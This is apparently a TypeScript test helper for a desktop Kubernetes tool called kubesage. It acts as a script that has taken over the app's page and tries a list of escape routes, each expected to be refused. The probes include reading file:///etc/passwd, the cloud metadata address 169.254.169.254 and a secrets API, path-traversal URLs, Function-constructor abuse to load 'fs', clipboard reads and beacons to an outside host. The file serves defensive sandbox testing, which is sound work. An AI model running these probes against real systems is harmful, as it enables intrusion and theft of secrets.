// What a script does that has taken the page over. Each function is sent to the page as text: it may use nothing of here.

/** In the page: speaks to the engine as any script there can. Answers the texts that came back: the first, or those of `forMs`. */
export async function exchange({
  messages,
  forMs,
}: {
  messages: readonly unknown[];
  forMs?: number;
}): Promise<string[]> {
  const { kubesage } = globalThis as unknown as { kubesage?: { connect(): void } };
  const answers: string[] = [];
  let heardFirst = () => {};
  const first = new Promise<void>((resolve) => {
    heardFirst = resolve;
  });
  const hear = (text: string) => {
    answers.push(text);
    heardFirst();
  };
  const enough = () => (forMs === undefined ? first : new Promise((resolve) => setTimeout(resolve, forMs)));
  if (kubesage === undefined) {
    const socket = new WebSocket(`${location.origin.replace('http', 'ws')}/api/v1/ws`);
    await new Promise((resolve) => socket.addEventListener('open', resolve));
    socket.addEventListener('message', ({ data }) => hear(data));
    for (const message of messages) socket.send(JSON.stringify(message));
    await enough();
    socket.close();
    return answers;
  }
  const given = new Promise<MessagePort>((resolve) =>
    window.addEventListener('message', function take(event) {
      if (event.data?.type !== 'kubesage:port') return;
      window.removeEventListener('message', take);
      resolve(event.ports[0] as MessagePort);
    }),
  );
  kubesage.connect();
  const port = await given;
  port.onmessage = ({ data }) => hear(JSON.stringify(data));
  for (const message of messages) port.postMessage(message);
  await enough();
  port.close();
  return answers;
}

/** In the page: ways out of it. Answers those that led anywhere. */
export async function attack({
  server,
  file,
}: {
  server: string;
  file: string;
}): Promise<{ tried: number; gained: string[] }> {
  const gained: string[] = [];
  let tried = 0;
  const attempt = async (name: string, way: () => unknown): Promise<void> => {
    tried++;
    try {
      const late = new Promise((resolve) => setTimeout(() => resolve('late'), 3_000));
      const got = await Promise.race([way(), late]);
      if (got !== undefined && got !== null && got !== false && got !== 'late' && got !== '')
        gained.push(`${name}: ${String(got).slice(0, 80)}`);
    } catch {
      // Refused, as it shall be.
    }
  };
  const scope = globalThis as Record<string, unknown>;
  for (const name of [
    'require',
    'process',
    'module',
    'Buffer',
    '__dirname',
    'electron',
    'ipcRenderer',
    'Deno',
    'Bun',
  ]) {
    await attempt(`global ${name}`, () => scope[name] !== undefined && name);
  }
  const make = (scope.kubesage as { connect?: { constructor: (code: string) => () => unknown } } | undefined)?.connect
    ?.constructor;
  // In a task of the page's own: what runs for a debugger is exempt from the policy.
  await attempt(
    'the preload’s Function',
    () =>
      new Promise((resolve, reject) =>
        setTimeout(() => {
          try {
            resolve(make?.('return typeof require !== "undefined" && require("fs")')());
          } catch (error) {
            reject(error);
          }
        }),
      ),
  );
  for (const url of [
    `file://${file}`,
    'file:///etc/passwd',
    `${server}/api/v1/secrets`,
    `${server}/version`,
    'https://example.com/',
    'http://169.254.169.254/latest/meta-data/',
    'http://127.0.0.1:9/',
    'chrome://version',
    'devtools://devtools/bundled/inspector.html',
    'filesystem:file:///etc/passwd',
    'blob:null/x',
    'data:text/plain,x',
  ]) {
    await attempt(`fetch ${url}`, async () => (await fetch(url)).status);
    await attempt(
      `request ${url}`,
      () =>
        new Promise((resolve, reject) => {
          const request = new XMLHttpRequest();
          request.open('GET', url);
          request.onload = () => resolve(request.responseText);
          request.onerror = reject;
          request.send();
        }),
    );
  }
  for (const path of [
    '/../../package.json',
    '/..%2f..%2fpackage.json',
    '/%2e%2e/%2e%2e/package.json',
    `/..%2f..%2f..%2f..%2f..%2f..${file}`,
    '/....//....//etc/passwd.json',
  ]) {
    await attempt(`own server ${path}`, async () => {
      const answer = await fetch(`${location.origin === 'null' ? 'app://kubesage' : location.origin}${path}`);
      const text = await answer.text();
      return answer.ok && !text.includes('<div id="root"') && text;
    });
  }
  await attempt(
    'socket',
    () =>
      new Promise((resolve, reject) => {
        const socket = new WebSocket(server.replace('https', 'wss'));
        socket.onopen = () => resolve('open');
        socket.onerror = reject;
      }),
  );
  for (const [name, code] of [
    ['blob', 'blob'],
    ['data', 'data'],
  ] as const) {
    await attempt(
      `worker from ${name}`,
      () =>
        new Promise((resolve, reject) => {
          const source = 'postMessage("ran")';
          const url = code === 'data' ? `data:text/javascript,${source}` : URL.createObjectURL(new Blob([source]));
          const worker = new Worker(url);
          worker.onmessage = () => resolve('ran');
          worker.onerror = reject;
        }),
    );
  }
  for (const address of [
    `file://${file}`,
    'https://example.com/',
    'data:text/html,<script>parent.postMessage(1)</script>',
  ]) {
    await attempt(
      `frame ${address}`,
      () =>
        new Promise((resolve, reject) => {
          const frame = document.createElement('iframe');
          frame.src = address;
          addEventListener('message', ({ source }) => source === frame.contentWindow && resolve('spoke'));
          frame.onload = () => {
            try {
              resolve(frame.contentDocument?.body?.innerText);
            } catch (error) {
              reject(error);
            }
          };
          document.body.append(frame);
          setTimeout(() => {
            frame.remove();
            reject(new Error('blocked'));
          }, 1_000);
        }),
    );
  }
  // A browser opens windows at a click; the desktop has one window and no other.
  if (scope.kubesage !== undefined)
    await attempt('window', () => window.open('https://example.com/', '_blank', 'popup') !== null && 'opened');
  await attempt(
    'script',
    () =>
      new Promise((resolve, reject) => {
        const script = document.createElement('script');
        script.src = 'https://example.com/x.js';
        script.onload = () => resolve('loaded');
        script.onerror = reject;
        document.body.append(script);
      }),
  );
  await attempt('service worker', async () => (await navigator.serviceWorker.register('/sw.js')).scope);
  await attempt('clipboard', () => navigator.clipboard.readText());
  await attempt(
    'files',
    async () => (await (scope as { showOpenFilePicker?: () => Promise<unknown[]> }).showOpenFilePicker?.())?.length,
  );
  await attempt(
    'devices',
    async () =>
      (await (navigator as unknown as { usb?: { requestDevice(options: object): Promise<object> } }).usb?.requestDevice(
        { filters: [] },
      )) !== undefined,
  );
  await attempt('notification', async () => (await Notification.requestPermission()) === 'granted');
  await attempt(
    'beacon to a server',
    () =>
      new Promise((resolve) => {
        document.addEventListener('securitypolicyviolation', () => resolve(''), { once: true });
        navigator.sendBeacon('https://example.com/', 'x');
      }),
  );
  return { tried, gained };
}
